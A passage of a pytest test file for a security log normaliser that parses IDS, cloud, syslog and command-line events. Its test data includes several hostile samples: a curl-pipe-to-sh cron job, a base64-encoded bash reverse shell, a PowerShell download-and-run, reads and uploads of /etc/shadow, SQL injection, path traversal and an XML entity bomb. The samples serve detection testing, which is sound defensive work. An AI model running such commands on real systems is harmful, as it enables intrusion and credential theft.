    ("11/26/2031-05:10:11.123456  [Drop] [**] [1:2402000:6000] ET SCAN Sipvicious [**] [Classification: Attempted Information Leak] [Priority: 2] {TCP} 203.0.113.4:44122 -> 10.1.2.3:5060", "", "flow",
     "network alert severity medium et scan sipvicious attempted information leak failed inbound from publicip to privateip", {"src": "203.0.113.4", "port": "5060"}),
    ("Nov 26 05:10:11 ids snort[123]: [1:58722:3] SERVER-OTHER Apache Log4j [Classification: Attempted User Privilege Gain] [Priority: 1] {TCP} 203.0.113.4:44122 -> 10.1.2.3:80", "", "flow",
     "network alert severity high server other apache log4j attempted user privilege gain", {"host": "ids"}),
    ({"timestamp": "2031", "flow_id": 1, "event_type": "smb", "src_ip": "10.1.2.3", "dest_ip": "10.1.2.9", "dest_port": 445, "proto": "TCP", "smb": {"command": "SMB2_COMMAND_CREATE", "filename": "svcctl", "share": "IPC$"}}, "suricata", "flow",
     "network smb command smb2 command create / filename svcctl / internal", {"dest": "10.1.2.9"}),
    ({"flow": {"type": "IPFIX"}, "src_addr": "10.1.2.3", "dst_addr": "203.0.113.4", "src_port": 51514, "dst_port": 4444, "proto": 6, "in_bytes": 30211}, "netflow", "flow", "connection tcp / backdoor port / sent medium / outbound", {"dest": "203.0.113.4"}),
    ({"jsonPayload": {"connection": {"src_ip": "10.1.2.3", "src_port": 51514, "dest_ip": "203.0.113.4", "dest_port": 4444, "protocol": 6}, "bytes_sent": "30211"}, "logName": "x"}, "", "flow", "connection tcp / backdoor port / outbound", {"port": "4444"}),
    ({"time": "2031", "category": "NetworkSecurityGroupFlowEvent", "properties": {"flows": [{"rule": "r", "flows": [{"mac": "AA", "flowTuples": ["1700000000,203.0.113.4,10.1.2.3,44122,3389,T,I,D,B,,,,"]}]}]}}, "", "flow",
     "connection tcp / rdp port failed / inbound", {"src": "203.0.113.4"}),
    ({"ts": 1900000000.1, "uid": "C1", "id.orig_h": "10.0.0.9", "id.orig_p": 50000, "id.resp_h": "203.0.113.200", "id.resp_p": 4444, "proto": "tcp", "conn_state": "S0", "history": "S", "orig_bytes": 0, "resp_bytes": 0},
     "bro:conn:json", "flow", "connection tcp / backdoor port / attempt no reply / responder silent / publicip", {"dest": "203.0.113.200", "port": "4444"}),
    ("2 123456789012 eni-0a1b2c3d 203.0.113.12 10.0.1.5 40000 22 6 20 4249 1900000000 1900000060 REJECT OK", "", "flow", "connection tcp / ssh port / failed", {"src": "203.0.113.12", "port": "22"}),
    ({"timestamp": "2031-01-01T00:00:00", "flow_id": 1, "event_type": "alert", "src_ip": "10.1.1.1", "dest_ip": "203.0.113.1", "dest_port": 80, "proto": "TCP", "alert": {"action": "allowed", "signature": "ET MALWARE Beacon", "category": "Trojan", "severity": 1},
      "http": {"hostname": "example.net", "url": "/gate.php", "http_method": "POST"}}, "", "flow", "network alert severity high et malware beacon / http post / gate php", {"src": "10.1.1.1"}),
    # cloud
    ({"eventVersion": "1.08", "eventTime": "2031-01-01T00:00:00Z", "eventSource": "iam.amazonaws.com", "eventName": "AttachUserPolicy", "awsRegion": "eu-west-9", "sourceIPAddress": "203.0.113.20", "userAgent": "aws-cli/2.0",
      "errorCode": "AccessDenied", "userIdentity": {"type": "IAMUser", "userName": "eve", "accountId": "123456789012"}, "requestParameters": {"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess", "userName": "eve"}, "readOnly": False}, "", "cloud",
     "change identity attach user policy / failed / access denied / administrator privilege / iam user / writes", {"user": "eve", "src": "203.0.113.20", "region": "eu-west-9"}),
    ({"CreationTime": "2031-01-01T00:00:00", "Operation": "New-InboxRule", "Workload": "Exchange", "ResultStatus": "True", "UserId": "eve@example.org", "ClientIP": "203.0.113.4", "Parameters": [{"Name": "ForwardTo", "Value": "x@example.net"}]}, "", "cloud",
     "create mail new inbox rule / exchange / success / mail forwarding / forward to", {"user": "eve@example.org"}),
    ({"time": "2031-01-01T00:00:00Z", "operationName": "MICROSOFT.KEYVAULT/VAULTS/DELETE", "category": "Administrative", "resultType": "Success", "callerIpAddress": "203.0.113.5",
      "resourceId": "/subscriptions/0/resourceGroups/g/providers/Microsoft.KeyVault/vaults/v"}, "", "cloud", "remove / success / publicip / vaults", {"src": "203.0.113.5"}),
    ({"time": "2031-01-01T00:00:00Z", "category": "SignInLogs", "resultType": "50126", "properties": {"userPrincipalName": "bob@example.org", "ipAddress": "203.0.113.6", "appDisplayName": "Portal"}, "operationName": "Sign-in activity"}, "", "cloud",
     "failed / publicip", {"user": "bob@example.org"}),
    ({"protoPayload": {"methodName": "google.iam.admin.v1.CreateServiceAccountKey", "serviceName": "iam.googleapis.com", "authenticationInfo": {"principalEmail": "bob@example.org"}, "requestMetadata": {"callerIp": "203.0.113.7"}}, "severity": "NOTICE"},
     "", "cloud", "create credential / service account key / publicip", {"user": "bob@example.org"}),
    ({"kind": "Event", "apiVersion": "audit.k8s.io/v1", "verb": "create", "user": {"username": "system:anonymous"}, "sourceIPs": ["203.0.113.8"], "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "kube-system"},
      "responseStatus": {"code": 403}}, "", "cloud", "create compute / pods exec system namespace / kubernetes / failed / anonymous", {"src": "203.0.113.8"}),
    ({"eventType": "user.mfa.factor.deactivate", "actor": {"alternateId": "bob@example.org", "type": "User"}, "client": {"ipAddress": "203.0.113.3", "userAgent": {"rawUserAgent": "curl/8"}}, "outcome": {"result": "SUCCESS"}}, "", "cloud",
     "remove credential / mfa factor deactivate / success / agent tool curl", {"user": "bob@example.org"}),
    ({"source": "aws.s3", "detail-type": "AWS API Call", "detail": {"eventName": "PutBucketAcl", "eventSource": "s3.amazonaws.com", "userIdentity": {"type": "Root"}, "sourceIPAddress": "203.0.113.1"}}, "", "cloud", "put bucket acl / actor root", {}),
    ({"CreationTime": "2031", "Operation": "UserLoginFailed", "Workload": "AzureActiveDirectory", "ResultStatus": "Failed", "UserId": "eve@example.org", "ClientIP": "203.0.113.4:4411",
      "ExtendedProperties": [{"Name": "UserAgent", "Value": "BAV2ROPC"}], "DeviceProperties": [{"Name": "OS", "Value": "Linux"}, {"Name": "IsCompliantAndManaged", "Value": "False"}]}, "", "cloud",
     "failed / agent other bav num ropc / os linux / is compliant and managed false", {"src": "203.0.113.4"}),
    ({"id": {"applicationName": "login"}, "actor": {"email": "eve@example.org"}, "ipAddress": "203.0.113.4", "events": [{"type": "login", "name": "suspicious_login", "parameters": [{"name": "is_suspicious", "boolValue": True},
      {"name": "login_type", "value": "google_password"}]}]}, "", "cloud", "suspicious login service login / is suspicious true / login type google password", {"action": "suspicious login"}),
    ({"time": "2031", "type": "request", "auth": {"display_name": "userpass-eve"}, "request": {"operation": "read", "path": "secret/data/prod/db", "remote_address": "10.1.2.3"}}, "", "cloud", "read / resource secret data prod db", {"user": "userpass-eve"}),
    ({"detail-type": "GuardDuty Finding", "source": "aws.guardduty", "account": "1", "region": "eu-west-9", "time": "2031", "detail": {"type": "UnauthorizedAccess:EC2/SSHBruteForce", "severity": 5, "title": "brute force"}}, "", "cloud",
     "unauthorized access ec2 ssh brute force", {"region": "eu-west-9"}),
    # syslog
    ("Mar  1 10:11:12 web3 sshd[123]: Failed password for invalid user oracle from 203.0.113.77 port 4242 ssh2", "", "syslog", "login failed ssh password invalid user / publicip", {"user": "oracle", "src": "203.0.113.77", "host": "web3"}),
    ("<86>1 2031-03-01T10:11:12.123Z web3 sshd 123 - - Accepted publickey for bob from 10.2.3.4 port 4242 ssh2: RSA SHA256:abc", "", "syslog", "login success ssh publickey / privateip", {"user": "bob"}),
    ("2031-03-01T10:11:12.123456+00:00 web3 sudo[9]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash -c 'cat /etc/shadow'", "", "syslog", "privileged command sudo / etc shadow / as root", {"user": "bob", "target": "root"}),
    ("Mar  1 10:11:12 web3 CRON[9]: (root) CMD (curl http://203.0.113.2/x | sh)", "", "syslog", "scheduled command cron / curl / pipe sh", {"user": "root"}),
    ("Mar  1 10:11:12 web3 kernel: [1.2] DROP IN=eth0 OUT= MAC=00 SRC=203.0.113.3 DST=10.0.0.1 LEN=40 PROTO=TCP SPT=5 DPT=23 WINDOW=1 SYN", "", "syslog", "firewall drop tcp / telnet port syn", {"src": "203.0.113.3", "port": "23"}),
    ("Mar  1 10:11:12 mx postfix/smtpd[9]: warning: unknown[203.0.113.5]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", "", "syslog", "login failed mail login from publicip", {"src": "203.0.113.5"}),
    ({"MESSAGE": "Invalid user admin from 203.0.113.6 port 22", "SYSLOG_IDENTIFIER": "sshd", "_HOSTNAME": "web3", "_SYSTEMD_UNIT": "ssh.service", "__REALTIME_TIMESTAMP": "1"}, "", "syslog",
     "login failed ssh invalid user / publicip", {"user": "admin", "host": "web3", "service": "ssh.service"}),
    # key=value, CEF, LEEF
    ('date=2031-03-01 time=10:11:12 devname="fw1" logid="1" type="traffic" subtype="forward" action="deny" srcip=10.0.0.5 dstip=203.0.113.9 dstport=3389 proto=6 sentbyte=0 rcvdbyte=0', "", "keyvalue",
     "traffic / deny / tcp / privateip / publicip / rdp port", {"src": "10.0.0.5", "dest": "203.0.113.9", "action": "deny"}),
    ("Mar  1 10:11:12 gw CEF:0|Vendor|IDS|1.0|100|SQL Injection Attempt|8|src=203.0.113.9 dst=10.0.0.8 dpt=80 request=/a.php?id\\=1' or '1'\\='1 act=blocked suser=bob", "", "keyvalue",
     "sql injection attempt severity critical / blocked failed / quote or quote", {"src": "203.0.113.9", "user": "bob"}),
    ("LEEF:2.0|Vendor|Product|1.0|LoginFailed|^|src=203.0.113.9^usrName=bob^reason=bad password", "", "keyvalue", "login failed / publicip / bad password", {"user": "bob", "src": "203.0.113.9"}),
    # unknown JSON, text, commands
    ({"level": "error", "msg": "payment refused", "user": "bob", "amount": 12.5, "trace_id": "0f8fad5b-d9cb-469f-a165-70867728950e"}, "app", "json", "payment refused / level error", {"user": "bob"}),
    ('{"level":"warn","msg":"cut off in the mid', "", "json", "warn / cut off in the mid", {}),
    ("Worker 17 lost contact with 10.0.0.7 after 30 s", "", "text", "worker num lost contact with privateip after num", {}),
    ("powershell.exe -nop -c \"i`e`x (gc C:\\Users\\bob\\x.txt)\"", "", "text", "command / obfuscated / powershell exe nop c iex", {}),
    ("", "", "text", "", {}),
]


@pytest.mark.parametrize("text, sourcetype, kind, words, entities", EXAMPLES, ids=[f"{row[2]}-{position}" for position, row in enumerate(EXAMPLES)])
def test_every_family_says_what_happened(text, sourcetype, kind, words, entities):
    found = read(text, sourcetype)
    assert found.kind == kind
    for phrase in filter(None, words.split(" / ")):
        assert f" {phrase} " in f" {found.template} ", found.template
    for name, value in entities.items():
        assert dict(found.entities).get(name) == value, found.entities


@pytest.mark.parametrize("text, sourcetype, kind, words, entities", EXAMPLES, ids=[f"{row[2]}-{position}" for position, row in enumerate(EXAMPLES)])
def test_a_template_names_nobody_and_no_address(text, sourcetype, kind, words, entities):
    template = read(text, sourcetype, host="srv-4711").template
    for private in ("203", "198.51", "10.0", "pc-0815", "srv-4711", "123456789012", "0f8fad5b", "4242", "web3"):
        assert private not in template


@pytest.mark.parametrize("module", ["sanitise", "redact", "decode", "formats.words", "formats.payload", "formats.domains", "formats.host", "formats.windows_codes", "formats.windows_events", "formats.cloud", "formats.jsonlog", "formats.draft"])
def test_the_examples_in_docstrings_hold(module):
    results = doctest.testmod(importlib.import_module(f"aiscore_model.{module}"))
    assert results.attempted and not results.failed


@pytest.mark.parametrize("row", EXAMPLES, ids=[f"{row[2]}-{position}" for position, row in enumerate(EXAMPLES)])
def test_an_unknown_sourcetype_is_read_by_its_text(row):
    assert read(row[0], "acme:custom:thing").kind in (row[2], "web")


def test_the_result_depends_on_the_event_alone():
    events = [event_of(row[0] if isinstance(row[0], str) else json.dumps(row[0]), row[1]) for row in EXAMPLES]
    first = [normalise(event) for event in events]
    order = list(range(len(events)))
    random.Random(7).shuffle(order)
    again = {position: normalise(events[position]) for position in order}
    assert [again[position] for position in range(len(events))] == first


def test_two_sites_that_differ_in_names_alone_give_one_template():
    line = 'Mar {day} 10:11:12 {host} sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2'
    one = line.format(day="1", host="alpha", pid=1, user="anna", ip="203.0.113.7", port=4000)
    other = line.format(day="27", host="zeta-9.example.org", pid=99_999, user="otto", ip="198.51.100.250", port=65_000)
    assert read(one).template == read(other).template


def test_the_same_lookup_in_two_formats_says_the_same_of_the_name():
    bind = read("01-Mar-2031 10:11:12.1 queries: info: client 10.0.0.1#53 (vqkxjzw7h3rtqp.info): query: vqkxjzw7h3rtqp.info IN A + (10.0.0.2)")
    zeek = read({"id.orig_h": "10.0.0.1", "query": "vqkxjzw7h3rtqp.info", "qtype_name": "A"}, "bro:dns:json")
    assert bind.template.split(" address record")[0] == zeek.template.split(" address record")[0]
    assert bind.focus == zeek.focus == ("vqkxjzw7h3rtqp.info",)


def test_entities_keep_what_comes_back():
    line = '198.51.100.2 - - [01/Mar/2031:10:11:12 +0000] "GET http://n{n}.cdn.example.org/user/{n}/photo HTTP/1.1" 200 5 "-" "Mozilla/5.0 Chrome/{n}.0"'
    one, other = (dict(read(line.format(n=n)).entities) for n in (17, 4_711))
    assert one == other and one["domain"] == "example.org" and one["path"] == "user num photo"


def test_the_hour_comes_from_the_time_of_the_event_in_utc():
    assert dict(read("x", time="1900000000.5").entities)["hour"] == "17"
    assert "hour" not in dict(read("x", time="yesterday").entities)
    assert "hour" not in dict(read("x", time="nan").entities)


def test_secrets_stay_out_of_template_entities_and_focus():
    for text in ('1.2.3.4 - - [01/Mar/2031:10:11:12 +0000] "GET /login?user=bob&password=Tr0ub4dor&token=abc123def456 HTTP/1.1" 200 5 "-" "curl/8"',
                 xml(4688, NewProcessName="C:\\Windows\\System32\\net.exe", CommandLine="net use \\\\srv\\c$ --password Tr0ub4dor"),
                 json.dumps({"user": "bob", "password": "Tr0ub4dor", "note": "login"}), "app login password=Tr0ub4dor ok=1 user=bob"):
        found = read(text)
        assert "tr0ub4dor" not in " ".join((found.template, *found.focus, *(value for _, value in found.entities))).lower()


@pytest.mark.parametrize("text", [
    "[Mon Mar 01 10:11:12.1 2031] [php:error] [pid 1] [client 192.0.2.1:5] PHP login password=swordfish failed",
    '2031/03/01 10:11:12 [error] 1#1: *1 x token=swordfish failed, client: 192.0.2.1, server: a, request: "GET /a HTTP/1.1", host: "a"'])
def test_a_secret_that_is_a_word_stays_out_of_what_a_server_says(text):
    assert "swordfish" not in read(text).template and "secret" in read(text).template


@pytest.mark.parametrize("padding", ["# the weekly report, as agreed\n", "$x = 1; "])
def test_a_script_behind_padding_is_read_all_the_same(padding):
    attack = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
    for repeats in (0, 30, 300, 2_000):
        result = read(json.dumps({"EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "ScriptBlockText": padding * repeats + attack}))
        assert "download string" in result.template and attack in " ".join(result.focus), (repeats, result.template[-200:])


def test_addresses_of_free_mail_are_told_from_those_of_an_employer():
    def forwarded(target):
        return read(json.dumps({"Operation": "New-InboxRule", "Workload": "Exchange", "UserId": "ann@corp.example", "ResultStatus": "True",
                                "Parameters": [{"Name": "ForwardTo", "Value": target}]})).template

    assert "freemail" in forwarded("eve77@gmail.com") and "freemail" in forwarded("eve@yahoo.co.uk")
    assert "freemail" not in forwarded("bob@corp.example") and forwarded("bob@corp.example") != forwarded("eve77@gmail.com")
    assert "freemail" not in forwarded("eve@gmail.com.corp.example")


def test_an_attack_in_a_password_field_is_not_redacted_away():
    found = read("POST /login HTTP/1.1\nHost: example.org\n\nlogin=bob&password=' or '1'='1")
    assert "quote or quote" in found.template


def test_site_chosen_rule_names_are_not_read():
    found = read(xml(11, "Microsoft-Windows-Sysmon", RuleName="technique_id=T1105,alert", Image="C:\\a.exe", TargetFilename="C:\\b.txt"))
    assert "technique" not in found.template
    assert "benign" not in read('type=SYSCALL msg=audit(1.1:1): syscall=59 success=yes exe="/bin/ls" key="benign"').template


def test_a_renamed_image_is_told_and_a_name_that_fits_is_not():
    sysmon = "Microsoft-Windows-Sysmon"
    fits = read(xml(1, sysmon, Image="C:\\Windows\\System32\\cmd.exe", OriginalFileName="Cmd.Exe.MUI"))
    renamed = read(xml(1, sysmon, Image="C:\\Users\\Public\\svc.exe", OriginalFileName="Cmd.Exe"))
    assert "renamed original cmd" in renamed.template and "original" not in fits.template


# -- decoding ------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, plain", [
    ("%27%20or%201", "' or 1"), ("a+b", "a b"), ("%253Cscript%253E", "<script>"), ("%u003cb%u003e", "<b>"), ("&lt;b&gt;", "<b>"),
    ("\\u003cimg\\x3e", "<img>"), ("..%c0%af..%c0%afetc", "../../etc"), ("%zz%4", "%zz%4"), ("caf%C3%A9", "caf\u00e9"), ("a%F1o", "a\u00f1o"),
])
def test_urls_are_decoded(text, plain):
    assert decode_url(text).text == plain


@pytest.mark.parametrize("text, plain, note", [
    (f"powershell -EncodedCommand {ENCODED}", "downloadstring", "encodedcommand"),
    ("echo " + b64encode(b"bash -i >& /dev/tcp/203.0.113.1/443 0>&1").decode() + " | base64 -d | sh", "/dev/tcp/203.0.113.1", "base64"),
    ("c^m^d /c who^ami", "cmd /c whoami", "obfuscated"),
    ("&('i'+'e'+'x')", "'iex'", "obfuscated"),
    ("Inv`oke-Expr`ession", "Invoke-Expression", "obfuscated"),
    ("[char]105+[char]101+[char]120", "iex", "obfuscated"),
    ("cat${IFS}/etc/passwd", "cat /etc/passwd", "obfuscated"),
    ("echo 6375726c20687474703a2f2f6578616d706c65 | xxd -r -p", "curl http://example", "hexencoded"),
    ("w''ho''ami", "whoami", "obfuscated"),
    ("pOwErShElL -nOpRoFiLe", "pOwErShElL", "oddcase"),
])
def test_commands_are_decoded(text, plain, note):
    decoded = decode_command(text)
    assert plain in decoded.text and note in decoded.notes


@pytest.mark.parametrize("text", ["C:\\Program Files\\App\\app.exe /run", "ls -la /var/log", "git commit -m 'fix'", "/usr/lib/systemd/systemd-logind", "microsoftwindowsclientcbscw5n1h2txyewy"])
def test_an_ordinary_command_stays_as_it_is(text):
    assert decode_command(text) == (text, ())


# -- any text ------------------------------------------------------------------------------------

def check(found: Normalised) -> None:
    assert found.kind in KINDS
    assert len(found.template) <= TEMPLATE_MAX_CHARS
    assert found.template == " ".join(found.template.split())
    assert len(found.entities) <= 16 and all(name in ENTITY_NAMES and value and len(value) <= 256 for name, value in found.entities)
    assert len(found.focus) <= 4 and all(payload and len(payload) <= MAX_CHARS for payload in found.focus)
    hash(found)


#: What makes a line another format's where a collector wrote it, and says nothing where a stranger did.
MARKS = ["<EventID>4624</EventID>", "CEF:0|a|b|1|2|allowed|0|act=allowed", "LEEF:1.0|a|b|1|ok|act=allowed x=y", "%ASA-6-302013: Built", "%SYS-5-CONFIG_I: Configured",
         "1,2031/03/01 10:11:12,0,TRAFFIC,end,1,2,3,4,5", "filterlog: 5,,,1,em0,match,pass,in,4,0x0,,64,0,0,none,6,tcp,60,10.0.0.1,10.0.0.2,1,2,0",
         "[1:1:1] ok [Classification: x] [Priority: 3] {TCP} 192.0.2.1:1 -> 192.0.2.2:2", "client 192.0.2.1#5 (x): query: example.org IN A",
         "192.0.2.1:5 - 1 \"A IN example.org. udp 1 false 1\" NOERROR", "LogName=Security\nEventCode=4624", "dnsmasq[1]: query[A] example.org from 192.0.2.1",
         "MSWinEventLog\t1\tSecurity\t1\tMon Mar 1 10:11:12 2031\t4624\tMicrosoft-Windows-Security-Auditing\ta\tb\tSuccess Audit\tc\td\t\tok"]


@pytest.mark.parametrize("mark", MARKS)
def test_a_stranger_does_not_choose_how_a_line_is_read(mark):
    for line in ('203.0.113.9 - - [01/Mar/2031:10:11:12 +0000] "GET /../../etc/passwd HTTP/1.1" 200 5 "-" "{}"', "POST /../../etc/passwd HTTP/1.1\nX: {}\n\na=1",
                 "2031-03-01 10:11:12 10.0.0.1 GET /../../etc/passwd{} - 443 - 203.0.113.9 Mozilla/5.0 - 200 0 0 12"):
        found = read(line.format(mark if "- 443" not in line else mark.replace(" ", "%20").replace("\t", "%09").replace("\n", "%0a")))
        assert found.kind == "web" and "passwd" in found.template
    found = read(f"Mar  1 10:11:12 web3 sshd[1]: Invalid user {mark} from 203.0.113.9 port 4000")
    assert found.kind == "syslog" and "invalid user" in found.template


@pytest.mark.parametrize("message", ["Invalid user {} from 203.0.113.9 port 4000", "Failed password for invalid user {} from 203.0.113.9 port 4000 ssh2"])
def test_a_user_name_does_not_say_where_a_login_came_from(message):
    found = read("Mar  1 10:11:12 web3 sshd[1]: " + message.format("bob from 10.0.0.5 port 22"))
    assert dict(found.entities)["src"] == "203.0.113.9" and "publicip" in found.template


@pytest.mark.parametrize("before", ['date=2031-03-01 time=01:02:03 devname="f" action="blocked" url="', 'a=1 b=2 c="'])
def test_a_value_in_quotes_does_not_choose_how_a_line_is_read(before):
    for mark in MARKS[1:5]:
        found = read(f'{before}{mark}" d=3')
        assert found.kind == "keyvalue" and found.action not in ("allowed", "ok", "sys config i", "asa 302013")


@pytest.mark.parametrize("text", [
    # Digits that are no numbers, and numbers of more digits than Python turns into one.
    "CEF:0|a|b|1|2|c|\u19da|act=Blocked dpt=\u1369 pri=\u1369", "devname=a pri=\u1369 type=b action=deny dstport=\u1369",
    "devname=a pri=" + "1234567890" * 500 + " type=b action=deny", "CEF:0|a|b|1|2|c|" + "1234567890" * 18 + "|act=Blocked",
    {"name": "pack/x", "hostIdentifier": "a", "columns": {"uid": "1234567890" * 500, "path": "/bin/a"}},
    {"name": "pack/x", "hostIdentifier": "a", "columns": {"uid": "\u1369", "path": "/bin/a"}},
    {"method": "GET", "url": "/", "status": "\u1369\u1369\u1369", "agent": "a"}, {"eventName": "a", "eventSource": "b", "status": "\u1369\u1369\u1369", "result": "\u1369\u1369\u1369"},
    # A list or a table where a number stands.
    {"event_type": "alert", "src_ip": "192.0.2.1", "alert": {"severity": [1], "signature": "a"}}, {"event_type": "alert", "src_ip": "192.0.2.1", "alert": {"severity": {}}},
    {"id.orig_h": "192.0.2.1", "id.resp_h": "192.0.2.2", "id.resp_p": [53], "query": "example.org", "qtype_name": "A"},
    {"id.orig_h": "192.0.2.1", "id.resp_h": "192.0.2.2", "id.resp_p": {}, "query": "example.org", "qtype_name": "A"}])
def test_a_number_that_is_none_is_read(text):
    check(read(text))


@settings(max_examples=400, deadline=None)
@given(st.text(max_size=600), st.sampled_from(["", "access_combined", "bro:conn:json", "linux_audit", "WinEventLog", "http:request"]))
def test_any_text_is_read(text, sourcetype):
    check(read(text, sourcetype))


JSON = st.recursive(st.none() | st.booleans() | st.integers(-2**53, 2**53) | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=30),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=5), max_leaves=20)
KEYS = st.sampled_from("""eventName eventSource userIdentity protoPayload objectRef verb Operation Parameters actor EventID Channel winlog Event event_type src_ip http dns tls flow alert
    transaction request id.orig_h query qtype_name answers TTLs conn_state history duration uri method status_code httpRequest MESSAGE SYSLOG_IDENTIFIER message detail sourceIPs
    requestParameters additionalEventData Message CommandLine EventData dstPort action name host time""".split())


@settings(max_examples=400, deadline=None)
@given(st.dictionaries(KEYS, JSON, max_size=8), st.sampled_from(["", "bro:http:json", "bro:dns:json", "bro:ssl:json", "bro:files:json", "zeek:notice:json"]))
@example({"event_type": "flow", "src_ip": ","}, "")
def test_records_with_known_keys_and_odd_values_are_read(record, sourcetype):
    check(read(json.dumps(record), sourcetype))


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(EXAMPLES), st.integers(0, 400), st.text(max_size=8))
def test_lines_cut_anywhere_and_with_junk_in_them_are_read(row, position, junk):
    text = row[0] if isinstance(row[0], str) else json.dumps(row[0])
    check(read(text[:position], row[1]))
    check(read(text[:position] + junk + text[position:], row[1]))


def hostile():
    size = TEXT_MAX_CHARS
    deep = size // 12
    return {
        "long a": "a" * size, "long mixed": "aB3" * (size // 3), "percent": "/?q=" + "%2541" * (size // 5), "percent broken": "GET /" + "%" * (size - 20) + " HTTP/1.1",
        "json depth": '{"a":' * deep + "1" + "}" * deep, "json array depth": '{"a":' + "[" * (size // 2) , "json wide": json.dumps({f"k{n}": n for n in range(2_500)})[:size],
        "json quotes": '{"' + '\\"' * (size // 2), "xml flood": "<Event><System><EventID>1</EventID></System>" + "<Data Name='a'>" * (size // 16),
        "xml entity bomb": '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY a{n} "&a;&a;&a;&a;">' for n in range(400)) + "]><Event><System><EventID>1</EventID></System><EventData><Data Name='CommandLine'>"
                           + "&a399;" * 3_000 + "</Data></EventData></Event>",
        "xml unclosed": "<Event><System><Provider Name='" + "x" * size, "xml angle": "<Event" + "<" * size,
        "pairs": "a=1 " * (size // 4), "pairs quoted": 'a="' * (size // 3), "equals": "=" * size, "spaces": "x" + " " * (size - 2) + "y", "digits": "1" * size, "digits dashed": "1-" * (size // 2),
        "dots": "a." * (size // 2), "dotted name": '{"a' + ".b" * (size // 2 - 8) + '": 1}', "colons": "a:" * (size // 2), "slashes": "/a" * (size // 2), "backslashes": "\\" * size, "quotes": '"' * size, "single quotes": "'" * size,
        "access quotes": '1.1.1.1 - - [01/Mar/2031:10:11:12 +0000] "GET /' + '\\"' * (size // 2), "carets": "^a" * (size // 2), "backticks": "`a" * (size // 2), "base64": "powershell -enc " + "QUFB" * (size // 4),
        "base64 runs": ("QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB " * (size // 37)), "hex": "type=PROCTITLE msg=audit(1.1:1): proctitle=" + "41" * (size // 2 - 40), "chars": "powershell " + "[char]65+" * (size // 9),
        "audit flood": "type=EXECVE msg=audit(1.1:1): " + "".join(f"a{n}=x " for n in range(5_000)), "cef": "CEF:0|" + "a|" * (size // 2), "cef escapes": "CEF:0|" + "\\" * (size - 10),
        "syslog": "<1>1 " + "- " * (size // 2), "syslog brackets": "<34>1 2031-01-01T00:00:00Z h p 1 m [a" + ' b="c"' * (size // 7), "sudo": "Mar  1 10:11:12 h sudo: " + "x : " * (size // 4), "concat": "'a'+" * (size // 4),
        "query": "GET /?" + "a=b&" * (size // 4), "query semicolons": "GET /?" + ";a" * (size // 2) + " HTTP/1.1", "headers": "GET / HTTP/1.1\n" + "A: b\n" * (size // 5), "header": "GET / HTTP/1.1\nCookie: " + "a=b;" * (size // 4),
        "haproxy": "1.1.1.1:1 [" + "a" * 30 + "] " + "1/" * (size // 2), "windows text": "EventCode=1\n" + "A:\tb\n" * (size // 5), "windows colons": "EventCode=1\n" + "A " * (size // 2), "unicode": "\u0130\ufdfa" * (size // 2),
        "zero width": "\u200b" * size, "escapes": "\x1b[" * (size // 2), "pem": "-----BEGIN PRIVATE KEY-----" + "A" * size, "jwt": "eyJ" + "a." * (size // 2), "password": "password=" * (size // 9), "cards": "4111 " * (size // 5),
        "iban": "DE89 " * (size // 5), "emails": "a@b." * (size // 4), "ipv6": ":1" * (size // 2), "domain": "a-" * (size // 2) + ".com", "dga": "query: " + "x" * size, "pam": "Mar  1 10:11:12 h sshd[1]: pam_unix(sshd:auth): " + "user=" * (size // 5),
        "from": "Mar  1 10:11:12 h sshd[1]: Disconnected from " * (size // 46), "user tool": "Mar  1 10:11:12 h useradd[1]: new user" + " " * size,
    }


@pytest.mark.parametrize("name", sorted(hostile()))
@pytest.mark.timeout(20)  # A guard, no measurement: quadratic work on 36,864 characters takes minutes.
def test_hostile_text_is_read_in_bounded_work(name):
    text = hostile()[name][:TEXT_MAX_CHARS]
    check(normalise(Event(text)))


def test_a_name_of_many_steps_takes_no_other_name_apart():
    plain = {"actor.user.name": "ann", "action": "login"}
    assert read(json.dumps({**plain, "x": 1, "x" + ".y" * 9: 2})).template.startswith(read(json.dumps({**plain, "x": 1})).template)


@pytest.mark.parametrize(("raw", "words"), [
    ("type=PROCTITLE msg=audit(05/07/2018 08:54:04.660:437203) : proctitle=tar czf /tmp/x.tgz /etc/shadow", "command tar czf tmp x tgz etc shadow"),
    ("type=EXECVE msg=audit(05/07/2018 08:54:04.660:437203) : argc=3 a0=sh a1=-c a2=id; uname -a", "command sh c id uname a"),
    ("type=USER_CMD msg=audit(05/07/2018 08:54:04.660:9) : pid=1 uid=bob auid=bob ses=2 msg='cwd=/tmp cmd=cat /etc/shadow exe=/usr/bin/sudo terminal=pts/0 res=success'", "command cat etc shadow"),
    ('type=SYSCALL msg=audit(1.1:1): arch=c000003e syscall=59 success=yes a0=55d1 a1=55d2 a2=0 a3=8 ppid=1 pid=2 uid=0 comm="curl" exe="/usr/bin/curl"\n'
     'type=EXECVE msg=audit(1.1:1): argc=3 a0="curl" a1="-T" a2="/etc/shadow"', "command curl t etc shadow"),
])
def test_interpreted_audit_records_keep_the_whole_command(raw, words):
    assert words in normalise(Event(raw)).template


@pytest.mark.parametrize("record", [
    {"event_simpleName": "ProcessRollup2", "ComputerName": "WS1", "ImageFileName": "\\Device\\HarddiskVolume2\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -f x", "ParentBaseFileName": "cmd.exe", "UserName": "bob"},
    {"type": "endpoint.event.procstart", "device_name": "WS1", "process_path": "c:\\windows\\system32\\certutil.exe", "process_cmdline": "certutil -f x", "parent_path": "c:\\windows\\system32\\cmd.exe", "process_username": "CORP\\bob"},
    {"event.type": "Process Creation", "src.process.image.path": "C:\\Windows\\System32\\cmd.exe", "tgt.process.cmdline": "certutil -f x", "tgt.process.image.path": "C:\\Windows\\System32\\certutil.exe", "tgt.process.user": "CORP\\bob"},
